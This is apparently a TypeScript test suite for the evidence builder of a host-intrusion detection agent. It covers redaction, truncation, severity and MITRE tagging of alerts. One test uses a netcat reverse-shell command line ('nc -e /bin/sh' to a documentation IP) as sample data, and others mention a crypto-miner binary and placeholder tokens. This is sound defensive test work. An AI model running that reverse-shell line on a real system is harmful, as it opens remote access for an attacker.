import assert from 'node:assert/strict';
import { evidenceOf } from '../../../../src/agent/detections/alerts/evidence.ts';
import { trimmed } from '../../../../src/agent/detections/alerts/kept-alert.ts';
import { heap, MEGABYTE } from '../flood.ts';
import { hit } from './samples.ts';

const evidence = (of: Parameters<typeof hit>[0], redact = true) => evidenceOf(hit(of), 'T', { redact });

describe('evidenceOf', () => {
  it('truncates a command line after 2 KB, between characters, and marks the truncation', () => {
    const CommandLine = `${'x'.repeat(2_047)}é${'y'.repeat(7_000)}`;
    const { subject, details } = evidence({ payload: { CommandLine } });
    assert.equal(subject.CommandLine, 'x'.repeat(2_047));
    assert.deepEqual(details, { ShortenedField: 'CommandLine', OriginalBytes: '9049' });
    const whole = evidence({ payload: { CommandLine: 'é'.repeat(1_024) } });
    assert.deepEqual([whole.subject.CommandLine, whole.details], ['é'.repeat(1_024), {}]);
  });

  it('redacts before truncation, so that no part of a secret remains', () => {
    const CommandLine = `app ${'x'.repeat(2_030)} --password ${'q'.repeat(500)}`;
    assert.ok(!String(evidence({ payload: { CommandLine } }).subject.CommandLine).includes('q'));
  });

  it('redacts the parent and the matching view as well, unless disabled', () => {
    const of = {
      payload: { CommandLine: 'a --token abc' },
      fields: { CommandLine: 'a --token abc', ParentCommandLine: 'mysql -pabc', ParentImage: '/bin/mysql' },
      view: { Image: '/bin/b', CommandLine: 'b --token=abc' },
    };
    const redacted = evidence(of);
    assert.ok(!JSON.stringify(redacted).includes('abc'));
    assert.equal(redacted.details.MatchedCommandLine, 'b --token=[redacted]');
    const { subject, parentCommandLine, details } = evidence(of, false);
    assert.deepEqual(
      [subject.CommandLine, parentCommandLine, details.MatchedCommandLine],
      ['a --token abc', 'mysql -pabc', 'b --token=abc'],
    );
  });

  it("reports the number and the ids of a correlation's events", () => {
    const ids = Array.from({ length: 20 }, (_, n) => `e${n}`);
    const { eventIds, details } = evidence({ count: 64, ids, cut: true, eventIds: ['last'] });
    assert.deepEqual([eventIds.length, eventIds.at(-1)], [16, 'e19']);
    assert.deepEqual(details, { CorrelatedEvents: '64', JudgedInPart: 'true' });
  });

  it('reports the trusted actor and up to three ancestors, and lowers the severity by one level', () => {
    const ancestors = ['/usr/bin/dash', '/usr/bin/dpkg', '/usr/bin/apt-get', '/usr/bin/bash'];
    const { severity, during, details } = evidence({ during: 'dpkg', ancestors });
    assert.deepEqual([severity, during], ['medium', 'dpkg']);
    assert.deepEqual(details, { Ancestors: '/usr/bin/dash;/usr/bin/dpkg;/usr/bin/apt-get' });
    assert.equal(evidence({ rule: { level: 'informational' }, during: 'dpkg' }).severity, 'informational');
  });

  it('limits all strings to 4 KB of JSON, truncates the longest first, and marks them', () => {
    const hostile = '\x01'.repeat(2_000);
    const { subject, details, ...others } = evidence({
      payload: { CommandLine: hostile, Executable: '/usr/bin/true', UserName: 'eve', CurrentDirectory: '/home/eve' },
      fields: { CommandLine: hostile, ParentCommandLine: `sh ${hostile}`, ParentImage: '/bin/sh' },
      view: { Image: '/bin/x', CommandLine: `x ${hostile}` },
    });
    const encoded = Buffer.byteLength(JSON.stringify({ subject, details, ...others }));
    assert.ok(encoded <= 4_096 + 400, `${encoded} with names`);
    assert.deepEqual(
      [subject.Executable, subject.UserName, subject.CurrentDirectory, others.parentExecutable, others.ruleTitle],
      ['/usr/bin/true', 'eve', '/home/eve', '/bin/sh', 'Crypto miner started'],
    );
    assert.equal(details.ShortenedField, 'CommandLine;ParentCommandLine;MatchedCommandLine');
    assert.equal(details.OriginalBytes, '2000;2003;2002');
    assert.match(String(subject.CommandLine), /^.{100,2000}$/s);
  });

  it('keeps the identifying fields with any number of long strings', () => {
    const many = Object.fromEntries(Array.from({ length: 60 }, (_, n) => [`F${n}`, '"'.repeat(500)]));
    const { subject } = evidence({ payload: { ExtraDetails: many, UserId: '7', RemoteAddress: '192.0.2.1' } });
    assert.deepEqual([subject.UserId, subject.RemoteAddress, subject.Executable], ['7', '192.0.2.1', '/tmp/xmrig']);
  });

  it('omits lines that the command line already contains', () => {
    const line = `sh -c 'nc -e /bin/sh 192.0.2.1 1'`;
    const view = { Image: '/bin/nc', CommandLine: 'nc -e /bin/sh 192.0.2.1 1' };
    const matched = (CommandLine: string) => evidence({ fields: { CommandLine }, view }).details.MatchedCommandLine;
    assert.deepEqual(
      [matched(line), matched('x'), matched(`${'y'.repeat(2_000)}; ${line}`)],
      [undefined, view.CommandLine, view.CommandLine],
    );
  });

  it('reports the selection, its techniques, and its tactics or those of the rule', () => {
    const rule = {
      tags: ['attack.persistence', 'attack.t1098.004'],
      selectionTags: { cron: ['attack.t1053.003'], sudoers: ['attack.privilege-escalation', 'attack.t1548.003'] },
    };
    const of = (...selections: string[]) => {
      const { selection, tactics, techniques } = evidence({ rule, selections });
      return [selection, tactics.join(), techniques.join()];
    };
    assert.deepEqual(of('cron'), ['cron', 'persistence', 'T1053.003']);
    assert.deepEqual(of('sudoers', 'other'), ['sudoers;other', 'privilege-escalation', 'T1548.003']);
    assert.deepEqual(of('other'), ['other', 'persistence', 'T1098.004']);
    assert.deepEqual(of(), [undefined, 'persistence', 'T1098.004']);
  });

  it('has a default remediation', () => {
    const { remediation: _, ...rule } = hit().rule;
    assert.match(evidenceOf({ ...hit(), rule }, 'T', { redact: true }).remediation, /./);
  });

  it('releases the strings that its own were cut out of', () => {
    const partOf = (length: number, part: number) => 'x'.repeat(length).slice(0, part);
    const kept: unknown[] = [];
    const before = heap();
    for (let number = 0; number < 50; number += 1)
      for (const part of [100, 1_500])
        kept.push(
          evidence({ payload: { CommandLine: partOf(400_000, part) }, fields: { ParentImage: partOf(400_000, 300) } }),
        );
    assert.ok(heap() - before < 2 * MEGABYTE);
    const trimmedBefore = heap();
    const ids = { alertId: '', count: 1, first: 0, last: 0 };
    for (let number = 0; number < 2_000; number += 1)
      kept.push(trimmed({ ...ids, ...evidence({ payload: { CommandLine: partOf(400_000, 2_000) } }) }).subject);
    assert.ok(heap() - trimmedBefore < 3 * MEGABYTE, `${heap() - trimmedBefore}`);
    assert.equal(kept.length, 2_100);
  });
});
